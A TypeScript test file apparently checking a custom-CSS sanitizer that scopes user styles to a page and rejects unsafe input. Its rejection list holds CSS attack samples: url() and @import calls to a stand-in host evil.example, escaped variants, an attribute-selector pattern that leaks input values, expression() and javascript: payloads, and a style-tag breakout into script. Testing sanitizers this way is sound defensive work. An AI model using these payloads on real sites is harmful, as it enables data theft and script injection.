import { describe, expect, test } from 'vitest';
import { cssProblems, MAX_CSS_LENGTH, scopedCss } from './custom-css.ts';

const scoped = (css: string) => scopedCss(css, 'page');
const messages = (css: string) => cssProblems(css).map(({ message }) => message);

describe('custom CSS', () => {
  test.each([
    ['.item { color: red }', '.page .item{color:red}'],
    ['.a, .b:hover { color: red }', '.page .a,.page .b:hover{color:red}'],
    ['body { color: red }', '.page{color:red}'],
    ['html body > .a { color: red }', '.page>.a{color:red}'],
    [':root { --sea: #0A6E8A }', '.page{--sea: #0A6E8A }'],
    ['body ~ .a { color: red }', '.page body~.a{color:red}'],
    ['body.dark .a { color: red }', '.page body.dark .a{color:red}'],
    ['@media (min-width: 600px) { .a { color: red } }', '@media (min-width:600px){.page .a{color:red}}'],
    ['@keyframes in { from { opacity: 0 } 50% { opacity: 1 } }', '@keyframes in{from{opacity:0}50%{opacity:1}}'],
    ['.a { width: calc(100% - var(--x)) }', '.page .a{width:calc(100% - var(--x))}'],
    ['.a { background: url(data:image/png;base64,AAAA) }', '.page .a{background:url(data:image/png;base64,AAAA)}'],
    ['/* note */ .a { -webkit-user-select: none }', '.page .a{-webkit-user-select:none}'],
  ])('T20 %s is used within the page alone', (css, wanted) => {
    expect(messages(css)).toEqual([]);
    expect(scoped(css).replaceAll(' }', '}').replaceAll(': ', ':')).toBe(
      wanted.replaceAll(' }', '}').replaceAll(': ', ':'),
    );
  });

  test.each([
    '@import "https://evil.example/x.css";',
    '@font-face { font-family: x; src: url(//evil.example/x.woff) }',
    '@charset "utf-8";',
    '.a { background: url(https://evil.example/x.png) }',
    '.a { background: url("ht\\74ps://evil.example/x") }',
    '.a { background: image-set("https://evil.example/x" 1x) }',
    'input[value^="a"] { background: url(//evil.example/a) }',
    '.a { --leak: url(//evil.example/x) }',
    '.a { width: expression(alert(1)) }',
    '.a { -moz-binding: url(x) }',
    '.a { behavior: url(x.htc) }',
    '.a { position: fixed }',
    '.a { position: sticky }',
    '.a { position: fi\\78 ed }',
    '.a { p\\6fsition: fixed }',
    '.a { --p: fixed; position: var(--p) }',
    '.a { & ~ .b { color: red } }',
    '.a { src: local(x) }',
    '.a { background: u\\72l(https://evil.example) }',
    '.a { background: url(javascript:alert(1)) }',
    '.a { background: url(data:image/svg+xml;base64,AAAA) }',
    '<style> .a { color: red }',
    '</style><script>alert(1)</script>',
    '<!-- .a { color: red } -->',
    '}} .a { color: red }',
    '.a { color: re d: }',
    '@media ( { .a { color: red } }',
  ])('T20 B-08 %s is refused, and left out', (css) => {
    expect(cssProblems(css)).not.toEqual([]);
    expect(scoped(css)).not.toMatch(/evil|position:|script|expression|behavior|binding|svg|~|import|charset/);
  });

  test('T20 a string cannot end the style element that holds it', () => {
    expect(scoped('.a::before { content: "\\3c/style><script>" }')).not.toContain('</');
    expect(scoped('.a::before { content: "</style>" }')).not.toContain('</');
  });

  test('broken CSS is reported with its line, and the rest is used', () => {
    const css = '.a { color: red }\n.b { coloor: red; color: blue }\n.c { color: green';
    expect(cssProblems(css)).toEqual([
      { message: 'The property coloor cannot be used.', line: 2, from: 23, to: 34 },
      { message: 'This block is not closed. Add the missing }.', line: 3, from: 53, to: 67 },
    ]);
    expect(scoped(css)).toBe('.page .a{color:red}.page .b{color:blue}.page .c{color:green}');
  });

  test('B-08 what is too long, or has too many selectors, is refused whole', () => {
    const long = '.a{color:red}'.repeat(MAX_CSS_LENGTH / 10);
    expect(messages(long)).toEqual(['Custom CSS has at most 100,000 characters.']);
    expect(scoped(long)).toBe('');
    const many = `${'.a,'.repeat(5000)}.a{color:red}`;
    expect(messages(many)).toEqual(['Custom CSS has at most 5,000 selectors.']);
    expect(scoped(many)).toBe('');
  });

  test('B-08 brackets without end are refused instead of read', () => {
    const deep = `.a { width: ${'calc('.repeat(10_000)} }`;
    expect(messages(deep)).toEqual([expect.stringContaining('brackets inside brackets')]);
    expect(scoped(deep)).toBe('');
  });

  test('no CSS is nothing to say', () => {
    expect(messages('')).toEqual([]);
    expect(scoped('')).toBe('');
  });
});
